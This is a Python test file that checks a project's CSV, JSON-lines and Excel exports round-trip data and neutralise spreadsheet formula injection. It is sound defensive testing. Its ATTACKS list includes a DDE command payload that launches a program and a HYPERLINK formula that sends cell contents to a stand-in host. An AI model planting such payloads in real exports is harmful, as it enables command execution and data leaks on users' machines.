"""What is read back from a file is what was stored, in every format; and no cell is taken for a formula."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook

from tests.exports.files import read_back
from tests.support.facts import T0
from wabawatch.domain.export_columns import COLUMNS, NAMES, Cell, Column, Kind, Row, columns_of
from wabawatch.domain.exports import Format, Order
from wabawatch.exports import xlsx_file
from wabawatch.exports.making import WRITERS

ATTACKS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("https://example.invalid/?"&A1,"click")',
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
    "'=1",
    "''",
    '"=1"',
    ";=1",
    "a,b\r\nc",
    'say "hi"',
    "_x0041_",
    "<script>&amp;</script>",
    " lead and trail ",
    "🙂 žluťoučký",
    "\x01\x1f\x7f",
    "\ufffe",
    "line\u2028separator",
)
# No lone surrogates and no NUL: neither database keeps them.
texts = st.one_of(
    st.sampled_from(ATTACKS),
    st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=30),
    st.text("=+-@'\t\r\n,\";_x0041 ", max_size=8),
)
_CELLS: dict[Kind, st.SearchStrategy[Cell]] = {
    Kind.TEXT: texts,
    Kind.WHOLE: st.none() | st.integers(-(2**53), 2**53),
    Kind.TIME: st.none() | st.integers(T0 - 40 * 365 * 86_400_000, T0 + 40 * 365 * 86_400_000),
    Kind.SWITCH: st.none() | st.booleans(),
}
SOME = ("id", "contact", "at", "error_code", "error_title", "partial_failure")


def rows_of(names: tuple[str, ...]) -> st.SearchStrategy[list[Row]]:
    return st.lists(st.tuples(*(_CELLS[column.kind] for column in columns_of(names))), max_size=4)


def written(order: Order, *batches: list[Row]) -> bytes:
    file = io.BytesIO()
    WRITERS[order.format](file, order, batches)
    return file.getvalue()


@pytest.mark.parametrize("format", Format)
@given(some=rows_of(SOME), more=rows_of(SOME), has_bom=st.booleans())
@example(some=[(text, text, T0, 1, text, True) for text in ATTACKS], more=[], has_bom=False)
def test_what_is_read_back_is_what_was_stored(format: Format, some: list[Row], more: list[Row], has_bom: bool) -> None:
    order = Order(format, SOME, has_bom=has_bom)

    assert read_back(written(order, some, [], more), order) == [*some, *more]


@pytest.mark.parametrize("format", Format)
def test_every_format_has_all_columns_in_the_same_order(format: Format) -> None:
    row: Row = tuple(_sample(column) for column in COLUMNS)
    order = Order(format, NAMES)

    assert read_back(written(order, [row]), order) == [row]


def _sample(column: Column) -> Cell:
    samples: dict[Kind, Cell] = {Kind.TEXT: column.name, Kind.WHOLE: 131026, Kind.TIME: T0 + 123, Kind.SWITCH: False}
    return samples[column.kind]


@pytest.mark.parametrize("format", Format)
def test_an_empty_result_is_a_file_too(format: Format) -> None:
    order = Order(format, NAMES)

    assert read_back(written(order), order) == []


@pytest.mark.parametrize("text", [text for text in ATTACKS if text.startswith(tuple("=+-@\t\r\n\uff1d'"))])
def test_no_cell_of_a_csv_begins_as_a_formula_does(text: str) -> None:
    content = written(Order(Format.CSV, ("id", "error_code")), [(text, -5)])

    [_, line] = csv.reader(io.StringIO(content.decode(), newline=""))
    assert line == [f"'{text}", "-5"]


def test_a_csv_is_as_the_standard_says() -> None:
    rows: list[Row] = [('say "hi", all', T0, None, True), ("", None, 131026, None)]
    content = written(Order(Format.CSV, ("contact", "at", "error_code", "billable")), rows)

    assert content == (
        b'contact,at,error_code,billable\r\n"say ""hi"", all",2026-09-21T14:13:20.000Z,,true\r\n,,131026,\r\n'
    )


def test_excel_knows_a_csv_in_utf8_by_its_mark() -> None:
    assert written(Order(Format.CSV, ("id",), has_bom=True), [("č",)]) == "\ufeffid\r\nč\r\n".encode()


def test_a_line_of_json_says_null_where_nothing_is_known() -> None:
    content = written(Order(Format.JSONL, ("id", "at", "sent_at", "error_code")), [("7", T0, None, None)])

    assert [json.loads(line) for line in content.splitlines()] == [
        {"id": "7", "at": "2026-09-21T14:13:20.000Z", "sent_at": None, "error_code": None}
    ]


def test_times_of_a_workbook_are_dates_and_shown_in_utc() -> None:
    content = written(Order(Format.XLSX, ("at",)), [(T0 + 7,)])

    [cell] = load_workbook(io.BytesIO(content))["Messages"]["A2":"A2"][0]
    assert cell.is_date
    assert cell.number_format == 'yyyy\\-mm\\-dd"T"hh:mm:ss.000"Z"'


def test_what_one_sheet_does_not_take_goes_on_in_the_next_and_the_last_says_so() -> None:
    order = Order(Format.XLSX, ("id", "error_code"))
    rows: list[Row] = [(str(i), i) for i in range(5)]
    file = io.BytesIO()

    assert xlsx_file.write(file, order, [rows[:3], rows[3:]], most_rows=2) == 3

    assert read_back(file.getvalue(), order) == rows
    book = load_workbook(file)
    assert book.sheetnames == ["Messages", "Messages 2", "Messages 3", "About"]
    about = {row[0].value: row[1].value for row in book["About"].iter_rows()}
    assert (about["Messages in all"], about["Sheets"], about["Messages 3"]) == (5, 3, 1)
    assert "1,048,576 rows" in about["Why several sheets"]


def test_a_sheet_that_is_just_full_begins_no_other() -> None:
    file = io.BytesIO()

    assert xlsx_file.write(file, Order(Format.XLSX, ("id",)), [[("1",), ("2",)]], most_rows=2) == 1


def test_a_text_longer_than_a_cell_takes_is_cut_between_characters() -> None:
    content = written(Order(Format.XLSX, ("id",)), [("🙂" * 20_000,)])

    value = load_workbook(io.BytesIO(content))["Messages"]["A2"].value
    assert value == "🙂" * 16_383


def test_a_workbook_is_sound_and_its_parts_are_all_named() -> None:
    with zipfile.ZipFile(io.BytesIO(written(Order(Format.XLSX, NAMES), []))) as book:
        assert book.testzip() is None
        types = book.read("[Content_Types].xml").decode()
        assert all(f"/{name}" in types for name in book.namelist() if name.startswith("xl/") and "_rels" not in name)
